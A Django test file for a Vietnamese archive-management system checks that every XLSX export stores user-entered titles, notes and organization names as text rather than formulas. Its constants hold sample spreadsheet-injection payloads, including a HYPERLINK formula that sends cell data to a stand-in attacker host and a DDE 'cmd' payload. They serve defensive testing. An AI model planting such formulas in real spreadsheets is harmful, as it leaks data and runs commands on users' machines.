"""Text typed by users is written as text in every XLSX the system makes (issue 8, item 10):
a title, note or organization name starting with =, +, - or @ is never a formula."""

from __future__ import annotations

import io

from django.test import Client
from openpyxl import load_workbook

from luutru.archive.tests.conftest import make_dossier
from luutru.compliance.refresh import refresh_facts
from luutru.filing import services as filing
from luutru.filing.tests.conftest import build_plan, retention
from luutru.orgs.models import Organization
from luutru.testing import PASSWORD

HOSTILE_ORG = '=HYPERLINK("http://ke-xau.example/?"&A1,"Văn phòng")'
HOSTILE_TITLE = "=1+2 Kế hoạch công tác"
HOSTILE_NOTE = "@SUM(A1:A9)"
HOSTILE_HEADING = "-2+3 Công tác khác"
HOSTILE_ITEM = "+cmd|' /C calc'!A0"


def _client(user) -> Client:
    c = Client()
    assert c.login(username=user.username, password=PASSWORD)
    return c


def _formulas(content: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(content))
    return [
        f"{ws.title}!{c.coordinate}: {c.value!r}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def _texts(content: bytes) -> set[str]:
    wb = load_workbook(io.BytesIO(content))
    return {
        str(c.value)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.value is not None
    }


def test_every_xlsx_export_writes_hostile_text_as_text(world):
    Organization.objects.filter(pk=world.office.pk).update(name=HOSTILE_ORG)
    world.office.refresh_from_db()
    plan = build_plan(world, 2024)
    heading = filing.add_heading(world.clerk, plan, title=HOSTILE_HEADING, abbrev="KH")
    filing.add_item(
        world.clerk, plan, heading, title=HOSTILE_ITEM, retention=retention(), note=HOSTILE_NOTE
    )
    dossier = make_dossier(world.office, world.official, notation="01.VP", title=HOSTILE_TITLE)
    from luutru.archive.services import create_deposit

    deposit = create_deposit(world.official, world.office, [dossier])
    d = dossier.end_date
    refresh_facts()  # the compliance facts, as the worker refreshes them after these commits
    official, head = _client(world.official), _client(world.head)
    downloads = {
        "plan (forms)": (official, f"/bieu-mau/danh-muc/{plan.pk}.xlsx"),
        "plan (filing)": (official, f"/danh-muc/{plan.pk}/danh-muc.xlsx"),
        "index (forms)": (official, f"/bieu-mau/ho-so/{dossier.pk}/muc-luc.xlsx"),
        "index (filing)": (official, f"/ho-so/{dossier.pk}/muc-luc.xlsx"),
        "deposit (forms)": (official, f"/bieu-mau/nop-luu/{deposit.pk}/muc-luc.xlsx"),
        "deposit (archive)": (official, f"/nop-luu/{deposit.pk}/muc-luc.xlsx"),
        "fonds list": (official, f"/bieu-mau/phong/{world.office.pk}/muc-luc-ho-so.xlsx"),
        "register": (
            official,
            f"/bieu-mau/so-dang-ky/{world.office.pk}.xlsx?loai=di&tu={d.year}-01-01"
            f"&den={d.year}-12-31",
        ),
        "statistics": (
            head,
            f"/tuan-thu/thong-ke/?to-chuc={world.office.pk}&nam={d.year}&xuat=xlsx",
        ),
        "evaluation": (head, f"/danh-gia/{world.office.pk}/{d.year}.xlsx"),
    }
    problems, seen = [], set()
    for name, (client, url) in downloads.items():
        r = client.get(url)
        if r.status_code != 200 or not r.content.startswith(b"PK"):
            problems.append(f"{name} {url}: {r.status_code}")
            continue
        problems += [f"{name}: formula {f}" for f in _formulas(r.content)]
        seen |= _texts(r.content)
    assert not problems, "\n".join(problems)
    # The hostile text is there, as text (not dropped, not rewritten).
    assert any(t.startswith("=") and "HYPERLINK" in t.upper() for t in seen)
    for text in (HOSTILE_TITLE, HOSTILE_NOTE, HOSTILE_HEADING, HOSTILE_ITEM):
        assert any(text in t for t in seen), text


def test_numbers_stay_numbers(world):
    from luutru.forms.layout import Form, Row, Table
    from luutru.forms.xlsx_out import to_xlsx

    form = Form(
        slug="x",
        title="THỬ",
        issuer=["=CƠ QUAN"],
        tabular=True,
        blocks=[Table(["STT", "Tên"], [5, 20], [Row([1, "=A1"]), Row([2, "+1"])])],
    )
    wb = load_workbook(io.BytesIO(to_xlsx(form)))
    values = {c.value: c.data_type for row in wb.active.iter_rows() for c in row if c.value}
    assert values[1] == "n" and values[2] == "n"
    assert values["=A1"] == "s" and values["+1"] == "s"
    assert not [c for row in wb.active.iter_rows() for c in row if c.data_type == "f"]
